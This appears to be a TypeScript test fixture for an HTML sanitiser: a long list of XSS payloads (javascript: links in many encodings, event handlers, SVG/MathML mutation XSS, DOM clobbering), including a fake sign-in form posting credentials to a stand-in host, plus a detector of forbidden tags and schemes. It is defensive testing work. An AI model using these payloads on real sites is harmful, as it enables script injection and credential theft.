/**
 * Hostile Markdown and HTML for the sanitiser's tests (src/lib/html-sanitizer.test.ts in jsdom,
 * tests/e2e/xss.spec.ts in Chromium): classic vectors in the style of the OWASP XSS filter evasion
 * cheat sheet, SVG and MathML mutation XSS, `javascript:` links in many encodings, and form and
 * style overlays. Every script here calls `alert(1)`, so a test notices any that runs.
 */

export interface XssVector {
  name: string;
  /** What an editor could type into a Markdown field (raw HTML passes through Markdown). */
  markdown: string;
}

const v = (name: string, markdown: string): XssVector => ({ name, markdown });

export const XSS_VECTORS: readonly XssVector[] = [
  // Scripts
  v('script tag', '<script>alert(1)</script>'),
  v('script with src', '<script src="https://evil.example/x.js"></script>'),
  v('script, odd case', '<ScRiPt>alert(1)</sCrIpT>'),
  v('script split by a null', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'),
  v('script nested to survive one pass', '<scr<script>ipt>alert(1)</scr</script>ipt>'),
  v('script with a slash attribute', '<script/xss src="https://evil.example/x.js"></script>'),
  v('script after a fake close', '<<script>alert(1);//<</script>'),
  v('script in a paragraph', 'Hello <script>alert(1)</script> there'),
  v('script type module', '<script type="module">alert(1)</script>'),
  v('script in a table cell', '| a |\n| - |\n| <script>alert(1)</script> |'),
  // Event handlers
  v('img onerror', '<img src=x onerror=alert(1)>'),
  v('img onerror, no quotes or spaces', '<img/src=x/onerror=alert(1)>'),
  v('img onerror with entities', '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">'),
  v('img onerror, upper case', '<IMG SRC=x ONERROR=alert(1)>'),
  v('img with a grave accent', '<img src=`x` onerror=alert(1)>'),
  v('body onload', '<body onload=alert(1)>'),
  v('svg onload', '<svg onload=alert(1)>'),
  v('svg/onload', '<svg/onload=alert(1)>'),
  v('details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'),
  v('video onerror', '<video src=x onerror=alert(1)></video>'),
  v('audio onerror', '<audio src=x onerror=alert(1)></audio>'),
  v('video source onerror', '<video><source onerror=alert(1)></video>'),
  v('marquee onstart', '<marquee onstart=alert(1)>x</marquee>'),
  v('div onmouseover', '<div onmouseover="alert(1)" style="position:fixed;inset:0">x</div>'),
  v('a onclick', '<a href="#" onclick="alert(1)">click</a>'),
  v('focus with autofocus', '<div tabindex=1 autofocus onfocus=alert(1)>x</div>'),
  v('input autofocus onfocus', '<input autofocus onfocus=alert(1)>'),
  v('select autofocus onfocus', '<select autofocus onfocus=alert(1)></select>'),
  v('textarea autofocus onfocus', '<textarea autofocus onfocus=alert(1)></textarea>'),
  v('keygen autofocus', '<keygen autofocus onfocus=alert(1)>'),
  v('handler after a slash', '<img src=x/onerror=alert(1)//>'),
  v('handler split by a form feed', '<img src=x\fonerror=alert(1)>'),
  v('table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
  v('animation event', '<p style="animation-name:x" onanimationstart=alert(1)>x</p>'),
  v('object onerror', '<object data=x onerror=alert(1)></object>'),
  // javascript: links
  v('markdown link', '[click](javascript:alert(1))'),
  v('markdown link, upper case', '[click](JAVASCRIPT:alert(1))'),
  v('markdown link with entities', '[click](&#106;avascript:alert(1))'),
  v('markdown link with a percent code', '[click](javascript%3Aalert(1))'),
  v('markdown link with a tab', '[click](java\tscript:alert(1))'),
  v('markdown link in angle brackets', '[click](<javascript:alert(1)>)'),
  v('markdown reference link', '[click][x]\n\n[x]: javascript:alert(1)'),
  v('markdown autolink', '<javascript:alert(1)>'),
  v('markdown image', '![x](javascript:alert(1))'),
  v('a href', '<a href="javascript:alert(1)">x</a>'),
  v(
    'a href, decimal entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  ),
  v(
    'a href, padded decimal entities',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  ),
  v('a href, hex entities', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'),
  v('a href, named entity colon', '<a href="javascript&colon;alert(1)">x</a>'),
  v('a href, embedded tab', '<a href="jav\tascript:alert(1)">x</a>'),
  v('a href, embedded tab entity', '<a href="jav&#x09;ascript:alert(1)">x</a>'),
  v('a href, embedded new line entity', '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
  v('a href, embedded carriage return entity', '<a href="jav&#x0D;ascript:alert(1)">x</a>'),
  v('a href, leading spaces and meta characters', '<a href=" &#14;  javascript:alert(1)">x</a>'),
  v('a href, null in the scheme', '<a href="java\u0000script:alert(1)">x</a>'),
  v('a href, unquoted', '<a href=javascript:alert(1)>x</a>'),
  v('a href, mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'),
  v('a href, soft hyphen', '<a href="java\u00ADscript:alert(1)">x</a>'),
  v('a xlink:href', '<a xlink:href="javascript:alert(1)">x</a>'),
  v(
    'area href',
    '<map name=m><area shape=rect coords=0,0,999,999 href="javascript:alert(1)"></map><img usemap=#m src=x>',
  ),
  v('iframe src', '<iframe src="javascript:alert(1)"></iframe>'),
  v('form action', '<form action="javascript:alert(1)"><button>go</button></form>'),
  v('button formaction', '<button formaction="javascript:alert(1)">go</button>'),
  v('base href', '<base href="javascript:alert(1)//">'),
  v('meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
  v('link import', '<link rel="import" href="https://evil.example/x.html">'),
  v('vbscript link', '<a href="vbscript:msgbox(1)">x</a>'),
  // data: addresses
  v('data: html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
  v('data: html link, markdown', '[x](data:text/html,<script>alert(1)</script>)'),
  v('data: svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
  v('data: iframe', '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
  v('data: object', '<object data="data:text/html,<script>alert(1)</script>"></object>'),
  v('data: embed', '<embed src="data:text/html,<script>alert(1)</script>">'),
  v('data: in markdown image', '![x](data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E)'),
  v('data: with spaces', '<a href=" data:text/html,<script>alert(1)</script>">x</a>'),
  // SVG and MathML mutation XSS
  v('svg script', '<svg><script>alert(1)</script></svg>'),
  v('svg script with href', '<svg><script href="data:,alert(1)"></script></svg>'),
  v(
    'svg animate href',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
  ),
  v('svg set onbegin', '<svg><set onbegin=alert(1) attributename=x></svg>'),
  v('svg use data', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>'),
  v('svg foreignObject', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'),
  v('svg style mXSS', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
  v('svg title mXSS', '<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></title></svg>'),
  v(
    'math mglyph style mXSS',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ),
  v('math mtext mXSS', '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">'),
  v('math href', '<math href="javascript:alert(1)">click</math>'),
  v('math maction', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'),
  v('noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
  v('form nesting mXSS', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'),
  v('template mXSS', '<template><img src=x onerror=alert(1)></template>'),
  v('comment breakout', '<!--><img src=x onerror=alert(1)>-->'),
  v('comment in attribute', '<p title="--><img src=x onerror=alert(1)>">x</p>'),
  v('CDATA outside foreign content', '<![CDATA[><img src=x onerror=alert(1)>]]>'),
  v('xmp breakout', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
  v('iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  v('embed svg', '<embed src="https://evil.example/x.svg" type="image/svg+xml">'),
  v('object with param', '<object><param name=src value=javascript:alert(1)></object>'),
  v('noembed breakout', '<noembed><img title="</noembed><img src=x onerror=alert(1)>">'),
  // Form controls and overlays
  v(
    'password form',
    '<form action="https://evil.example/steal" method="post"><p>Your session has ended. Please sign in again.</p><input name="email"><input type="password" name="password"><button>Sign in</button></form>',
  ),
  v('bare password input', '<input type=password name=password placeholder="Password">'),
  v('select and options', '<select name=x><option>a</option><optgroup label=g><option>b</option></optgroup></select>'),
  v('textarea', '<textarea name=notes>Type here</textarea>'),
  v('fieldset legend label', '<fieldset><legend>Sign in</legend><label>Email <input></label></fieldset>'),
  v(
    'datalist output meter progress',
    '<datalist><option value=x></datalist><output>1</output><meter value=1></meter><progress></progress>',
  ),
  v('button form attribute', '<button form=login-form formaction="https://evil.example" formmethod=post>Go</button>'),
  v('input image', '<input type=image src="https://evil.example/login.png" formaction="https://evil.example">'),
  v('fixed overlay', '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Please sign in again</div>'),
  v(
    'overlay link',
    '<a href="https://evil.example/login" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
  ),
  v('style element', '<style>body{display:none}*{background:url(https://evil.example/track)}</style>'),
  v('style element after text', 'Text\n\n<style>@import "https://evil.example/x.css";</style>'),
  v('style attribute with expression', '<p style="width: expression(alert(1))">x</p>'),
  v('style with url', '<p style="background-image:url(javascript:alert(1))">x</p>'),
  v('link stylesheet', '<link rel=stylesheet href="https://evil.example/x.css">'),
  v('site class overlay', '<div class="mantine-Overlay-root mantine-Modal-root">Sign in again</div>'),
  v('dialog open', '<dialog open>Please enter your password</dialog>'),
  v('popover', '<div popover id=p>x</div><a popovertarget=p>open</a>'),
  v('contenteditable', '<div contenteditable>edit me</div>'),
  // Clobbering and other tricks
  v('clobber document.cookie', '<img name=cookie src=x>'),
  v('clobber by id', '<a id=__proto__ href=x>x</a><a id=defaultView>y</a>'),
  v('clobber a form', '<form id=x><input name=attributes></form>'),
  v('target blank', '<a href="https://evil.example" target="_blank">x</a>'),
  v('ping', '<a href="https://example.org" ping="https://evil.example/track">x</a>'),
  v('srcset', '<img src="/ok.png" srcset="javascript:alert(1) 1x">'),
  v('protocol-relative image', '<img src="//evil.example/x.png">'),
  v('backslash path', '<a href="/\\evil.example">x</a>'),
  v('frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'),
  v('applet', '<applet code="x.class"></applet>'),
  v('portal', '<portal src="https://evil.example"></portal>'),
  v('html in a code span stays text', '`<img src=x onerror=alert(1)>`'),
  v('html in a code block stays text', '```html\n<script>alert(1)</script>\n```'),
  v('attribute breakout in a title', '[x](https://example.org "\\"><img src=x onerror=alert(1)>")'),
  v('unclosed attribute', '<a href="https://example.org" title="x><img src=x onerror=alert(1)>//">x</a>'),
  v('double encoding', '<a href="%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)">x</a>'),
  v('utf-7 style', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
];

/**
 * What sanitised HTML must never hold, as a list of problems (empty when safe). Self-contained, so the
 * end-to-end test can run the same function inside Chromium.
 */
export function findUnsafeParts(root: ParentNode): string[] {
  const forbiddenTags = [
    'script',
    'style',
    'form',
    'input',
    'button',
    'select',
    'textarea',
    'option',
    'optgroup',
    'datalist',
    'fieldset',
    'legend',
    'label',
    'output',
    'meter',
    'progress',
    'keygen',
    'iframe',
    'frame',
    'frameset',
    'object',
    'embed',
    'applet',
    'base',
    'link',
    'meta',
    'template',
    'svg',
    'math',
    'dialog',
    'noscript',
    'portal',
    'marquee',
    'xmp',
    'noembed',
  ];
  const forbiddenAttributes = [
    'style',
    'form',
    'formaction',
    'action',
    'srcset',
    'srcdoc',
    'target',
    'ping',
    'contenteditable',
    'popover',
    'popovertarget',
    'autofocus',
  ];
  const addressAttributes = ['href', 'src', 'xlink:href', 'action', 'formaction', 'cite', 'background', 'poster'];
  const problems: string[] = [];
  for (const element of Array.from(root.querySelectorAll('*'))) {
    const tag = element.localName;
    if (forbiddenTags.includes(tag)) problems.push(`<${tag}>`);
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      // eslint-disable-next-line no-control-regex -- what browsers ignore inside an address.
      const value = attribute.value.replace(/[\u0000-\u0020\u007F-\u009F\u00AD]/g, '').toLowerCase();
      if (name.startsWith('on')) problems.push(`${tag} ${name}`);
      if (forbiddenAttributes.includes(name)) problems.push(`${tag} ${name}`);
      if (/^(?:javascript|data|vbscript):/.test(value)) problems.push(`${tag} ${name}=${value.slice(0, 30)}`);
      if (addressAttributes.includes(name) && /^(?:\/\/|\/\\|\\)/.test(value))
        problems.push(`${tag} ${name} leaves the site`);
      if (name === 'class' && !/^(?:language-[\w-]+\s*)+$/.test(value)) problems.push(`${tag} class=${value}`);
    }
  }
  return problems;
}
